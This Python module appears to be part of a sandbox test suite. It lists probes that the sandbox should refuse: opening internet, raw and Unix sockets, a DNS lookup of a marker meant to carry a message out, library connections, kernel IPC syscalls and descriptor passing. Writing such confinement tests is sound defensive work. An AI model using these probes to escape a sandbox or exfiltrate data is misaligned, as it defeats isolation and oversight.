"""Reaching other machines, other processes and the kernel's own services through sockets."""

from .attack import refused

ATTACKS = (
    refused(
        "internet",
        "Opens sockets of the internet, both versions, streams and datagrams.",
        """
            import socket
            attempt("stream", socket.socket, socket.AF_INET, socket.SOCK_STREAM)
            attempt("stream6", socket.socket, socket.AF_INET6, socket.SOCK_STREAM)
            attempt("datagram", socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
            attempt("pair", socket.socketpair)
            """,
    ),
    refused(
        "raw-sockets",
        "Opens raw sockets of the internet, of the link layer and of the kernel.",
        """
            import socket
            attempt("raw", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
            attempt("packet", socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
            attempt("netlink", socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 0)
            attempt("vsock", socket.socket, 40, socket.SOCK_STREAM)
            attempt("bluetooth", socket.socket, 31, socket.SOCK_STREAM)
            attempt("crypto", socket.socket, 38, socket.SOCK_SEQPACKET)
            """,
        bare=None,
    ),
    refused(
        "unix-sockets",
        "Opens local sockets, with a path and abstract ones.",
        """
            import socket
            def bound(address):
                with socket.socket(socket.AF_UNIX) as one:
                    one.bind(address)
            attempt("path", bound, f"socket{time.monotonic_ns()}")
            attempt("abstract", bound, "\\0" + PLACES["mark"])
            """,
    ),
    refused(
        "names",
        "Looks up a name that only a server could know, which would carry a message out in itself.",
        """
            import socket
            attempt("lookup", socket.getaddrinfo, PLACES["mark"] + ".example.org", 80)
            attempt("reverse", socket.gethostbyaddr, "192.0.2.1")
            """,
        told="gaierror|herror|EAI_.*|E.*",
        bare=None,
    ),
    refused(
        "libraries",
        "Uses what opens sockets behind the scenes: an event loop, a web request, a listener.",
        """
            import asyncio, http.client, multiprocessing.connection
            async def nothing():
                return 0
            attempt("loop", asyncio.new_event_loop)
            attempt("web", http.client.HTTPConnection("127.0.0.1", 9, timeout=1).connect)
            attempt("listener", multiprocessing.connection.Listener, None, "AF_UNIX")
            """,
        told="EPERM|EROFS|ENOENT",
        bare=None,
    ),
    refused(
        "kernel-services",
        "Asks the kernel for other ways of passing data: rings, keys, queues, shared memory.",
        """
            attempt("ring", syscall, 425, 4, 0)
            attempt("key", syscall, 248, 0, 0, 0, 0, 0)
            attempt("queue", syscall, 68, 0, 0)
            attempt("segment", syscall, 29, 0, 4096, 0o600)
            attempt("semaphore", syscall, 64, 0, 1, 0o600)
            attempt("memfd", os.memfd_create, "x")
            attempt("bpf", syscall, 321, 0, 0, 0)
            attempt("fanotify", syscall, 300, 0, 0)
            """,
        bare=None,
    ),
    refused(
        "descriptors-as-sockets",
        "Treats the protocol's pipes as sockets, to pass or receive descriptors.",
        """
            attempt("send", syscall, 46, 4, 0, 0)
            attempt("receive", syscall, 47, 3, 0, 0)
            attempt("owner", lambda: __import__("fcntl").fcntl(4, 8, os.getppid()))
            attempt("signal", lambda: __import__("fcntl").fcntl(4, 10, 9))
            """,
        bare=None,
    ),
)
